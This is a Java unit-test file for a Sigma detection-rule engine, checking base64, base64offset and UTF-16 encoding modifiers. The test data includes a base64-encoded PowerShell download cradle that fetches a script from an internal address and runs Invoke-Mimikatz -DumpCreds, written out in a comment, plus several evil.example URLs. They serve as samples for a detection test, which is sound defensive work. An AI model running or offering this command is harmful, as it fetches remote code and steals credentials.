package dev.vigil.sigma;

import static dev.vigil.sigma.SigmaTestSupport.event;
import static dev.vigil.sigma.SigmaTestSupport.rejected;
import static dev.vigil.sigma.SigmaTestSupport.rule;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.core.Problem;
import dev.vigil.core.rule.Rule;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * modifiers appendix § Encoding: base64, base64offset, utf16le, utf16be, utf16, wide. Every encoded
 * value below was computed with Python's {@code base64} module, not with the code under test.
 */
class EncodingModifierTest {

    private static Rule one(String key, String value) {
        return rule("selection:\n    " + key + ": " + SigmaTestSupport.quote(value) + "\ncondition: selection\n");
    }

    @Test
    @DisplayName("modifiers appendix § Encoding: base64 matches the whole encoded value")
    void base64_exactEncoding_matches() {
        Rule r = one("Value|base64", "http://");
        assertThat(r.matches(event("Value", "aHR0cDovLw=="))).isTrue();
        assertThat(r.matches(event("Value", "aHR0cDovLw"))).isFalse();
        assertThat(r.matches(event("Value", "xaHR0cDovLw=="))).isFalse();
    }

    @Test
    @DisplayName("modifiers appendix § Encoding: base64|contains finds the encoding inside a value")
    void base64Contains_encodingInside_matches() {
        Rule r = one("Value|base64|contains", "http://");
        assertThat(r.matches(event("Value", "echo aHR0cDovLw== | base64 -d"))).isTrue();
        assertThat(r.matches(event("Value", "echo aHR0cHM6Ly8= | base64 -d"))).isFalse();
    }

    /** modifiers appendix § Encoding: base64 encodes the value's UTF-8 bytes (as pySigma). */
    @Test
    @DisplayName("modifiers appendix § Encoding: base64 of a non-ASCII value uses UTF-8")
    void base64_nonAscii_encodesUtf8() {
        assertThat(one("Value|base64", "\u00e4").matches(event("Value", "w6Q="))).isTrue();
    }

    @ParameterizedTest(name = "''{0}''")
    @ValueSource(strings = {"aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"})
    @DisplayName("modifiers appendix § Encoding: base64offset of 'http://' is aHR0cDovL, h0dHA6Ly, odHRwOi8v")
    void base64offset_knownVariants_eachMatches(String variant) {
        Rule r = one("Value|base64offset", "http://");
        assertThat(r.matches(event("Value", variant))).isTrue();
        assertThat(r.matches(event("Value", variant + "x"))).isFalse();
    }

    @ParameterizedTest(name = "''{0}''")
    @ValueSource(strings = {
        "aHR0cDovL2V2aWwuZXhhbXBsZS94",          // base64("http://evil.example/x")
        "R2h0dHA6Ly9ldmlsLmV4YW1wbGUveA==",      // base64("Ghttp://...")
        "R0VodHRwOi8vZXZpbC5leGFtcGxlL3g=",      // base64("GEhttp://...")
        "R0VUIGh0dHA6Ly9ldmlsLmV4YW1wbGUveA=="   // base64("GET http://...")
    })
    @DisplayName("modifiers appendix § Encoding: base64offset|contains finds the value at any byte offset")
    void base64offsetContains_anyOffset_matches(String encoded) {
        Rule r = one("Value|base64offset|contains", "http://");
        assertThat(r.matches(event("Value", encoded))).isTrue();
    }

    @Test
    @DisplayName("modifiers appendix § Encoding: base64offset|contains does not match other encoded text")
    void base64offsetContains_otherText_doesNotMatch() {
        Rule r = one("Value|base64offset|contains", "http://");
        assertThat(r.matches(event("Value", "R0VUIGZ0cDovL2V2aWwuZXhhbXBsZS94"))).as("GET ftp://...").isFalse();
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource({
        "utf16le, YwBtAGQA",
        "wide, YwBtAGQA",
        "utf16be, AGMAbQBk",
        "utf16, //5jAG0AZAA="
    })
    @DisplayName("modifiers appendix § Encoding: utf16le/wide, utf16be and utf16 (BOM) before base64")
    void utf16Base64_cmd_knownEncoding(String encoding, String expected) {
        Rule r = one("Value|" + encoding + "|base64", "cmd");
        assertThat(r.matches(event("Value", expected))).isTrue();
        assertThat(r.matches(event("Value", "Y21k"))).as("base64 of UTF-8 'cmd'").isFalse();
    }

    @Test
    @DisplayName("modifiers appendix § Encoding: utf16le alone gives 63 00 6d 00 64 00")
    void utf16le_withoutBase64_matchesWideText() {
        Rule r = one("Value|utf16le|contains", "cmd");
        assertThat(r.matches(event("Value", "x c\u0000m\u0000d\u0000 y"))).isTrue();
        assertThat(r.matches(event("Value", "x cmd y"))).isFalse();
    }

    /**
     * Encoding modifiers on a value with wildcards (the spec is silent): as pySigma, the literal parts are
     * encoded and the wildcards kept, whichever order contains and the encoding are written in; a BOM
     * (utf16) comes first. A base64 after it still cannot encode wildcards (below).
     */
    @Test
    @DisplayName("modifiers appendix § Encoding: wide on a value with wildcards encodes the parts between them")
    void wide_withWildcards_encodesTheLiteralParts_andKeepsTheWildcards() {
        for (String key : List.of("Value|wide|contains", "Value|contains|wide", "Value|utf16le|contains")) {
            Rule r = one(key, "ab*cd");
            assertThat(r.matches(event("Value", "x a\u0000b\u0000 anything c\u0000d\u0000 y"))).as(key).isTrue();
            assertThat(r.matches(event("Value", "x ab anything cd y"))).as(key).isFalse();
            assertThat(r.matches(event("Value", "c\u0000d\u0000 then a\u0000b\u0000"))).as(key).isFalse();
        }
        Rule be = one("Value|utf16be", "a?c");
        assertThat(be.matches(event("Value", "\u0000a\u0000X\u0000c"))).isFalse(); // ? is one character, as written
        assertThat(be.matches(event("Value", "\u0000aX\u0000c"))).isTrue();
        Rule bom = one("Value|utf16|contains", "a*");
        assertThat(bom.matches(event("Value", "\u00FF\u00FEa\u0000zzz"))).isTrue();
        assertThat(bom.matches(event("Value", "a\u0000zzz"))).isFalse();
    }

    @ParameterizedTest(name = "prefix ''{0}''")
    @CsvSource({
        "'', SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAnACkAOwAgAEkAbgB2AG8AawBlAC0ATQBpAG0AaQBrAGEAdAB6ACAALQBEAHUAbQBwAEMAcgBlAGQAcwA=",
        "x, eABJAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADAALgAwAC4AMAAuADEALwBhACcAKQA7ACAASQBuAHYAbwBrAGUALQBNAGkAbQBpAGsAYQB0AHoAIAAtAEQAdQBtAHAAQwByAGUAZABzAA==",
        "xy, eAB5AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAMAAuADAALgAwAC4AMQAvAGEAJwApADsAIABJAG4AdgBvAGsAZQAtAE0AaQBtAGkAawBhAHQAegAgAC0ARAB1AG0AcABDAHIAZQBkAHMA"
    })
    @DisplayName("modifiers appendix § Encoding: wide|base64offset|contains finds a command in -EncodedCommand")
    void wideBase64offsetContains_encodedCommand_matches(String prefix, String encoded) {
        // encoded = base64(UTF-16LE(prefix + "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a');
        //                               Invoke-Mimikatz -DumpCreds"))
        Rule r = one("CommandLine|wide|base64offset|contains", "Invoke-Mimikatz");
        assertThat(r.matches(event("CommandLine", "powershell.exe -NoP -EncodedCommand " + encoded))).isTrue();
    }

    @Test
    @DisplayName("modifiers appendix § Encoding: wide|base64offset|contains ignores other encoded commands")
    void wideBase64offsetContains_benignCommand_doesNotMatch() {
        Rule r = one("CommandLine|wide|base64offset|contains", "Invoke-Mimikatz");
        // base64(UTF-16LE("Get-ChildItem C:\Users"))
        assertThat(r.matches(event("CommandLine",
                "powershell.exe -EncodedCommand RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAFUAcwBlAHIAcwA="))).isFalse();
    }

    @Test
    @DisplayName("modifiers appendix § Encoding: the wide|base64offset variants of 'Invoke-Mimikatz'")
    void wideBase64offset_knownVariants_eachMatches() {
        Rule r = one("CommandLine|wide|base64offset", "Invoke-Mimikatz");
        assertThat(r.matches(event("CommandLine", "SQBuAHYAbwBrAGUALQBNAGkAbQBpAGsAYQB0AHoA"))).isTrue();
        assertThat(r.matches(event("CommandLine", "kAbgB2AG8AawBlAC0ATQBpAG0AaQBrAGEAdAB6A"))).isTrue();
        assertThat(r.matches(event("CommandLine", "JAG4AdgBvAGsAZQAtAE0AaQBtAGkAawBhAHQAeg"))).isTrue();
    }

    /** pySigma rejects encoding a value with wildcards; so does Vigil. */
    @Test
    @DisplayName("modifiers appendix § Encoding: base64 of a value with wildcards is rejected")
    void base64_valueWithWildcard_rejected() {
        Problem p = rejected("""
                selection:
                    Value|base64: 'http*'
                condition: selection
                """);
        assertThat(p.message()).contains("wildcard");
    }

    @Test
    @DisplayName("modifiers appendix § Encoding: contains before base64 is rejected (it would encode wildcards)")
    void containsThenBase64_rejected() {
        Problem p = rejected("""
                selection:
                    Value|contains|base64: 'http'
                condition: selection
                """);
        assertThat(p.message()).contains("wildcard");
    }

    @Test
    @DisplayName("modifiers appendix § Encoding: an escaped wildcard is a plain character and may be encoded")
    void base64_escapedWildcard_encodesPlainCharacter() {
        // base64("a*b") = "YSpi"
        assertThat(one("Value|base64", "a\\*b").matches(event("Value", "YSpi"))).isTrue();
    }
}
